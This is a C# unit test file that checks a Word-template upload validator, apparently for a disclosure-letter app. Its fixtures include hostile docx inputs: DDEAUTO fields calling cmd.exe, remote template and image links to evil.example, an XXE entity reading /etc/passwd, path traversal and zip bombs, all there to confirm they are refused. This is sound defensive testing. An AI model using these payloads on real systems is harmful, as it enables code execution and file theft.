using System.IO.Compression;
using System.Text;
using Disclosure.Domain.Law;
using Disclosure.Domain.Replies;
using Disclosure.Web.Documents;
using Disclosure.Web.Replies;

namespace Disclosure.Web.Tests.Documents;

/// <summary>上传模板: one hostile or careless template for every refusal.</summary>
public sealed class TemplateCheckTests
{
    private const string Relations = "word/_rels/document.xml.rels", Types = "[Content_Types].xml", Main = "word/document.xml";

    [Fact]
    public void What_is_no_package_is_no_word_document()
    {
        Assert.Equal(TemplateRule.TemplateNotDocx, Refused("%PDF-1.7 and more"u8.ToArray()));
        Assert.Equal(TemplateRule.TemplateNotDocx, Refused("PK and then rubbish"u8.ToArray()));
        Assert.Equal(TemplateRule.TemplateNotDocx, Refused(Changed(archive => archive.GetEntry(Main)!.Delete())));
    }

    [Fact]
    public void A_template_has_at_most_a_megabyte() => Assert.Equal(TemplateRule.TemplateTooLarge, Refused(new byte[TemplateCheck.MaxSize + 1]));

    [Fact]
    public void Macros_are_refused_by_part_and_by_type()
    {
        Assert.Equal(TemplateRule.TemplateMacro, Refused(Changed(archive => Add(archive, "word/vbaProject.bin", "macro"))));
        Assert.Equal(TemplateRule.TemplateMacro, Refused(Changed(archive => Replace(archive, Types, "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"))));
    }

    [Theory]
    [InlineData("attachedTemplate", "http://evil.example/t.dotm", " TargetMode=\"External\"")]
    [InlineData("image", "http://evil.example/pixel.png", " TargetMode=\"External\"")]
    [InlineData("hyperlink", "file://server/share/a.docx", "")]
    [InlineData("attachedTemplate", "local.dotx", "")]
    public void Whatever_is_loaded_from_elsewhere_is_refused(string type, string target, string mode) =>
        Assert.Equal(TemplateRule.TemplateExternal, Refused(Related(type, target, mode)));

    [Theory]
    [InlineData("INCLUDEPICTURE", "<w:fldSimple w:instr=\" INCLUDEPICTURE http://evil.example/pixel.png \\d \"/>")]
    [InlineData("INCLUDETEXT", "{<w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT c:\\a.docx</w:instrText></w:r>}")]
    [InlineData("DDEAUTO", "{<w:r><w:instrText>DDE<!-- -->AUTO c:\\cmd.exe /k</w:instrText></w:r>}")]
    [InlineData("DATABASE", "{<w:r><w:instrText>DATABASE \\c DSN=x</w:instrText></w:r>}")]
    [InlineData("QUOTE", "{<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>}")]
    [InlineData("", "{{<w:r><w:instrText>DATE \\@ 'DDE'</w:instrText></w:r>}<w:r><w:instrText> c:\\cmd.exe</w:instrText></w:r>}")]
    public void A_field_that_may_load_or_run_is_refused_in_whatever_pieces_it_is_written(string name, string field)
    {
        var refusal = Assert.Throws<RuleViolationException>(() => Demand(WithField(field)));

        Assert.Equal((TemplateRule.TemplateExternal, (object)name), (refusal.Rule, refusal.Arguments[0]));
    }

    [Fact]
    public void Fields_that_count_and_date_are_taken_and_so_is_a_letter_that_speaks_of_others()
    {
        Demand(WithField("{<w:r><w:instrText xml:space=\"preserve\"> PA</w:instrText></w:r><w:r><w:instrText>GE \\* MERGEFORMAT </w:instrText></w:r>}"));
        Demand(WithField("<w:r><w:t>HYPERLINK \"x\" 和 LINK 都不用</w:t></w:r>"));
    }

    [Fact]
    public void A_mail_merge_is_refused() => Assert.Equal(TemplateRule.TemplateExternal, Refused(Changed(archive => Add(archive, "word/settings.xml",
        """<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge></w:settings>"""))));

    [Fact]
    public void A_part_of_xml_under_another_name_is_refused() => Assert.Equal(TemplateRule.TemplateNotDocx, Refused(Changed(archive => Replace(
        archive, Types, "</Types>", "<Override PartName=\"/word/header9.bin\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml\"/></Types>"))));

    [Theory]
    [InlineData("oleObject", "x.bin")]
    [InlineData("package", "x.bin")]
    [InlineData("aFChunk", "x.html")]
    [InlineData("subDocument", "x.docx")]
    public void Whatever_is_embedded_is_refused(string type, string target) => Assert.Equal(TemplateRule.TemplateEmbedded, Refused(Related(type, target, "")));

    [Theory]
    [InlineData("word/embeddings/oleObject1.bin")]
    [InlineData("word/activeX/activeX1.xml")]
    [InlineData("word/afchunk1.html")]
    [InlineData("../outside.xml")]
    public void A_part_that_runs_or_leaves_the_package_is_refused(string part) => Assert.Equal(TemplateRule.TemplateEmbedded, Refused(Changed(archive => Add(archive, part, "x"))));

    [Fact]
    public void An_entity_is_refused() => Assert.Equal(TemplateRule.TemplateXml,
        Refused(Changed(archive => Add(archive, "word/extra.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"))));

    [Fact]
    public void A_package_that_swells_is_refused() => Assert.Equal(TemplateRule.TemplateBomb, Refused(Changed(archive => Add(archive, "word/media/image1.bin", new string('0', 2_000_000)))));

    [Fact]
    public void A_package_of_a_thousand_parts_is_refused() => Assert.Equal(TemplateRule.TemplateBomb, Refused(Changed(archive =>
    {
        for (var i = 0; i < 1000; i++)
        {
            Add(archive, $"word/part{i}.bin", "x");
        }
    })));

    [Fact]
    public void A_missing_control_is_named()
    {
        var refusal = Assert.Throws<RuleViolationException>(() => Demand(Changed(archive => Replace(archive, Main, "\"DueOn\"", "\"ReceivedOn\""))));

        Assert.Equal(TemplateRule.TemplateFieldMissing, refusal.Rule);
        Assert.Contains("DueOn", (string)refusal.Arguments[0]!, StringComparison.Ordinal);
    }

    [Fact]
    public void An_unknown_control_is_named()
    {
        var refusal = Assert.Throws<RuleViolationException>(() => TemplateCheck.Demand(Shipped(), [], tag => tag != nameof(LetterField.DueOn), tag => tag));

        Assert.Equal((TemplateRule.TemplateFieldUnknown, (object)nameof(LetterField.DueOn)), (refusal.Rule, refusal.Arguments[0]));
    }

    private static byte[] Shipped() => new LetterTemplates(new LetterSettings(DocumentNumber.Pattern, HasRedHead: false)).Shipped(LetterKind.Receipt);

    private static Enum Refused(byte[] docx) => Assert.Throws<RuleViolationException>(() => Demand(docx)).Rule;

    private static void Demand(byte[] docx)
    {
        var form = LetterForms.Of(LetterKind.Receipt);
        TemplateCheck.Demand(docx, form.Fields.Select(f => f.ToString()), tag => Enum.TryParse<LetterField>(tag, out var field) && form.Knows(field), tag => tag);
    }

    /// <summary>A template with one more paragraph; braces stand for the marks of a field.</summary>
    private static byte[] WithField(string field) => Changed(archive => Replace(archive, Main, "<w:sectPr", $"<w:p>{field
        .Replace("{", "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>", StringComparison.Ordinal)
        .Replace("}", "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>", StringComparison.Ordinal)}</w:p><w:sectPr"));

    private static byte[] Related(string type, string target, string mode) => Changed(archive =>
    {
        archive.GetEntry(Relations)?.Delete();
        Add(archive, Relations, $"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}" Target="{target}"{mode}/></Relationships>""");
    });

    private static byte[] Changed(Action<ZipArchive> change)
    {
        using var stream = new MemoryStream();
        stream.Write(Shipped());
        using (var archive = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            change(archive);
        }

        return stream.ToArray();
    }

    private static void Add(ZipArchive archive, string name, string text)
    {
        using var entry = archive.CreateEntry(name).Open();
        entry.Write(Encoding.UTF8.GetBytes(text));
    }

    private static void Replace(ZipArchive archive, string name, string old, string changed)
    {
        string text;
        using (var reader = new StreamReader(archive.GetEntry(name)!.Open(), Encoding.UTF8))
        {
            text = reader.ReadToEnd();
        }

        archive.GetEntry(name)!.Delete();
        Add(archive, name, text.Replace(old, changed, StringComparison.Ordinal));
    }
}
